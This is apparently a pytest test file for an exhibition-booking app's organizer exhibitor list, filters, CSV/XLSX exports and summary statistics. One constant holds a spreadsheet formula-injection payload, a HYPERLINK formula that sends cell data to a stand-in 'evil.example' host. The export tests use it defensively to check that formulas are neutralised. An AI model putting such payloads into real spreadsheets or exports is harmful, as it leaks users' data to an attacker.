"""Organizers: the exhibitor list with filters, CSV/XLSX exports, and the summary."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import dataclass
from datetime import timedelta
from decimal import Decimal

import openpyxl
import pytest
from sqlalchemy import event

from telecom.core.models import utcnow
from telecom.exhibitors.models import (
    Organisation,
    PavilionKind,
    RateCategory,
    Sector,
    TurnoverBand,
)
from telecom.exhibitors.services import booking as booking_services
from telecom.exhibitors.services import organisations as services
from telecom.exhibitors.services import reports
from telecom.exhibitors.services.booking import BoothStatus
from telecom.extensions import db
from tests.core import visible_text
from tests.exhibitors.organisations_support import (
    SLUG,
    book,
    client_for,
    hold,
    invite,
    make_booth,
    make_hall,
    organisation_data,
    register,
    register_pavilion,
)
from tests.helpers import make_edition, make_organizer, make_user

LIST_URL = f"/organizer/editions/{SLUG}/exhibitors"
INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@dataclass
class Exhibition:
    edition: object
    organizer: object
    contact: object
    nokia: Organisation
    huawei: Organisation
    hungary: Organisation
    startup: Organisation
    pending: Organisation
    held: Organisation
    expired: Organisation


@pytest.fixture
def exhibition(app) -> Exhibition:
    """Hall F: F1 booked, F2 held, F3 blocked, F4 free, F5 hold expired.
    Hall G: G1 paid, G2 booked by a pavilion with one approved and one pending co-exhibitor."""
    edition = make_edition()
    organizer = make_organizer()
    contact = make_user("contact@example.org")
    hall_f, hall_g = make_hall(edition, "F"), make_hall(edition, "G")

    nokia = register(edition, contact, "Nokia Oyj", display_name="Nokia", country="FI",
                     turnover_band=TurnoverBand.FROM_1B_TO_10B)  # fmt: skip
    book(make_booth(hall_f, "F1", "3", "3"), nokia, organizer)
    held = register(edition, contact, "Held Co", country="DE")
    hold(make_booth(hall_f, "F2", "3", "3"), held, organizer)
    make_booth(hall_f, "F3", "2", "2", blocked=True)
    make_booth(hall_f, "F4", "4", "4")
    expired = register(edition, contact, "Expired Co", country="DE")
    booking_services.hold_booth(
        make_booth(hall_f, "F5", "3", "4").id, expired, actor=organizer,
        now=utcnow() - timedelta(hours=2),
    )  # fmt: skip

    huawei = register(edition, contact, "Huawei Technologies", display_name="Huawei",
                      country="CN", sector=Sector.OPERATOR,
                      turnover_band=TurnoverBand.OVER_10B)  # fmt: skip
    paid = hold(make_booth(hall_g, "G1", "6", "5"), huawei, organizer)
    booking_services.mark_paid(paid, actor=None)
    hungary = register_pavilion(
        edition, contact, "Hungarian Pavilion", display_name="Hungary", country="HU",
        turnover_band=TurnoverBand.UNDER_10M, sector=Sector.GOVERNMENT_REGULATOR,
    )  # fmt: skip
    services.update_organisation(
        hungary,
        organisation_data("Hungarian Pavilion", display_name="Hungary", country="HU",
                          turnover_band=TurnoverBand.UNDER_10M,
                          sector=Sector.GOVERNMENT_REGULATOR,
                          pavilion_kind=PavilionKind.NATIONAL),
        actor=organizer, rate_category=RateCategory.GOVERNMENT,
    )  # fmt: skip
    book(make_booth(hall_g, "G2", "10", "10"), hungary, organizer)
    startup = invite(hungary, contact, "BP Start-up Kft.", display_name="BP Start-up")
    services.decide_co_exhibitor(startup, True, actor=organizer)
    pending = invite(hungary, contact, "Pending Kft.")
    return Exhibition(
        edition, organizer, contact, nokia, huawei, hungary, startup, pending, held, expired
    )


@pytest.fixture
def organizer_client(app, exhibition):
    return client_for(app, exhibition.organizer.email)


def listed_names(client, **query: str) -> list[str]:
    response = client.get(LIST_URL, query_string=query)
    assert response.status_code == 200
    return re.findall(
        r'<td><a href="/organizer/editions/[^"]+/exhibitors/\d+">([^<]+)</a>', response.text
    )


# --------------------------------------------------------------------------- list


def test_the_list_shows_every_organisation(organizer_client):
    assert listed_names(organizer_client) == [
        "BP Start-up", "Expired Co", "Held Co", "Huawei", "Hungary", "Nokia", "Pending Kft.",
    ]  # fmt: skip


@pytest.mark.parametrize(
    ("query", "expected"),
    [
        ({"country": "DE"}, ["Expired Co", "Held Co"]),
        ({"sector": "operator"}, ["Huawei"]),
        ({"turnover_band": "under_10m"}, ["BP Start-up", "Hungary", "Pending Kft."]),
        ({"rate_category": "government"}, ["Hungary"]),
        ({"status": "pavilion"}, ["Hungary"]),
        ({"status": "co_pending"}, ["Pending Kft."]),
        ({"status": "co_approved"}, ["BP Start-up"]),
        ({"status": "exhibitor"}, ["Expired Co", "Held Co", "Huawei", "Nokia"]),
        ({"booking": "booked"}, ["Huawei", "Hungary", "Nokia"]),
        ({"booking": "held"}, ["Held Co"]),  # an expired hold is no hold
        ({"booking": "none"}, ["BP Start-up", "Expired Co", "Pending Kft."]),
        ({"q": "HUAWEI tech"}, ["Huawei"]),
        ({"country": "DE", "booking": "held"}, ["Held Co"]),
        ({"sector": "bogus"}, []),
    ],
)
def test_the_list_filters(organizer_client, query, expected):
    assert listed_names(organizer_client, **query) == expected


def test_the_list_shows_booths_and_area(organizer_client, exhibition):
    text = visible_text(organizer_client.get(LIST_URL, query_string={"q": "hungary"}))

    assert "G2" in text
    assert "100.00" in text
    assert "Government rate" in text


# --------------------------------------------------------------------------- exports


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.headers["Content-Type"].startswith("text/csv")
    text = response.data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads the accents right
    return list(csv.reader(io.StringIO(text[1:])))


def test_csv_export_neutralises_formulas(app, organizer_client, exhibition):
    nasty = register(
        exhibition.edition, exhibition.contact, INJECTION, display_name="@SUM(1+1)",
        country="FR", contact_phone="+33 1 23 45 67 89",
    )  # fmt: skip

    response = organizer_client.get(f"{LIST_URL}.csv", query_string={"country": "FR"})

    assert response.headers["Content-Disposition"] == (
        f'attachment; filename="exhibitors-{SLUG}.csv"'
    )
    header, *rows = csv_rows(response)
    assert header[:3] == ["ID", "Legal name", "Display name"]
    [row] = rows
    values = dict(zip(header, row, strict=True))
    assert values["ID"] == str(nasty.id)
    assert values["Legal name"] == "'" + INJECTION
    assert values["Display name"] == "'@SUM(1+1)"
    assert values["Contact phone"] == "'+33 1 23 45 67 89"
    assert values["Country"] == "France"
    for cell in row:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_export_has_every_filtered_organisation_with_booths_and_area(organizer_client):
    header, *rows = csv_rows(
        organizer_client.get(f"{LIST_URL}.csv", query_string={"booking": "booked"})
    )

    by_name = {
        row[header.index("Display name")]: dict(zip(header, row, strict=True)) for row in rows
    }
    assert sorted(by_name) == ["Huawei", "Hungary", "Nokia"]
    assert by_name["Hungary"]["Booths"] == "G2"
    assert by_name["Hungary"]["Net sqm booked"] == "100.00"
    assert by_name["Hungary"]["Rate category"] == "Government rate"
    assert by_name["Hungary"]["Status"] == "National pavilion"
    assert by_name["Huawei"]["Annual turnover"] == "Over USD 10 B"


def test_xlsx_export_opens_and_has_the_rows(organizer_client, exhibition):
    register(exhibition.edition, exhibition.contact, INJECTION, country="FR")

    response = organizer_client.get(f"{LIST_URL}.xlsx")

    assert response.status_code == 200
    assert response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"].endswith(f'filename="exhibitors-{SLUG}.xlsx"')
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    sheet = workbook.active
    rows = list(sheet.iter_rows(values_only=True))
    header, *data = rows
    assert header[:3] == ("ID", "Legal name", "Display name")
    assert len(data) == 8
    by_legal = {row[1]: dict(zip(header, row, strict=True)) for row in data}
    assert by_legal["Hungarian Pavilion"]["Net sqm booked"] == 100
    assert by_legal["Nokia Oyj"]["Booths"] == "F1"
    # The formula-looking name is plain text, exactly as typed, never a formula.
    injected_row = next(r for r in sheet.iter_rows(min_row=2) if r[1].value == INJECTION)
    assert injected_row[1].data_type == "s"


def test_exports_follow_the_list_filters(organizer_client):
    response = organizer_client.get(f"{LIST_URL}.xlsx", query_string={"status": "co_pending"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active

    assert [row[2] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["Pending Kft."]
    page = organizer_client.get(LIST_URL, query_string={"status": "co_pending"})
    assert f"{LIST_URL}.csv?status=co_pending" in page.text


# --------------------------------------------------------------------------- summary


def test_the_summary_figures(organizer_client, exhibition):
    summary = reports.edition_summary(exhibition.edition, actor=exhibition.organizer)

    assert summary.booths == {
        BoothStatus.AVAILABLE: 2,  # F4, and F5 whose hold expired
        BoothStatus.HELD: 1,
        BoothStatus.BOOKED: 3,
        BoothStatus.BLOCKED: 1,
    }
    assert summary.booths_total == 7
    assert summary.net_sqm == Decimal("139.00")  # 9 + 30 + 100: confirmed and paid booths
    assert summary.booth_area[BoothStatus.AVAILABLE] == Decimal("28")
    assert (summary.exhibitors, summary.direct_exhibitors, summary.co_exhibitors) == (4, 3, 1)
    assert summary.pavilions == 1
    assert summary.countries == 3
    assert summary.registered == 7
    assert summary.pending_co_exhibitors == 1
    assert summary.by_turnover == [
        (TurnoverBand.UNDER_10M, 2),
        (TurnoverBand.FROM_10M_TO_100M, 0),
        (TurnoverBand.FROM_100M_TO_1B, 0),
        (TurnoverBand.FROM_1B_TO_10B, 1),
        (TurnoverBand.OVER_10B, 1),
    ]
    assert summary.by_country == [("HU", 2), ("CN", 1), ("FI", 1)]

    page = organizer_client.get(f"{LIST_URL}/summary")
    assert page.status_code == 200
    html = page.text
    assert re.search(r'id="total-exhibitors">4<', html)
    assert re.search(r'id="net-sqm">139.00<', html)
    assert re.search(r'id="booths-held"><td>Held</td><td class="text-end">1<', html)
    assert re.search(r'id="band-under_10m"><td>Under USD 10 M</td><td class="text-end">2<', html)
    assert re.search(r'id="country-HU"><td>Hungary</td><td class="text-end">2<', html)


class StatementCounter:
    def __init__(self) -> None:
        self.count = 0

    def __call__(self, *args: object) -> None:
        self.count += 1


def statements_for(client, url: str) -> int:
    counter = StatementCounter()
    event.listen(db.engine, "before_cursor_execute", counter)
    try:
        assert client.get(url).status_code == 200
    finally:
        event.remove(db.engine, "before_cursor_execute", counter)
    return counter.count


def test_the_summary_and_list_run_a_fixed_number_of_statements(organizer_client, exhibition):
    summary_url, list_url = f"{LIST_URL}/summary", LIST_URL
    before = (statements_for(organizer_client, summary_url),
              statements_for(organizer_client, list_url))  # fmt: skip

    hall = make_hall(exhibition.edition, "H")
    for number in range(6):
        organisation = register(
            exhibition.edition, exhibition.contact, f"More {number} SA", country="BR"
        )
        book(make_booth(hall, f"H{number}"), organisation, exhibition.organizer)
        co = invite(exhibition.hungary, exhibition.contact, f"Co {number} Kft.")
        services.decide_co_exhibitor(co, True, actor=exhibition.organizer)

    after = (statements_for(organizer_client, summary_url),
             statements_for(organizer_client, list_url))  # fmt: skip
    assert after == before
    summary = reports.edition_summary(exhibition.edition, actor=exhibition.organizer)
    assert summary.exhibitors == 16
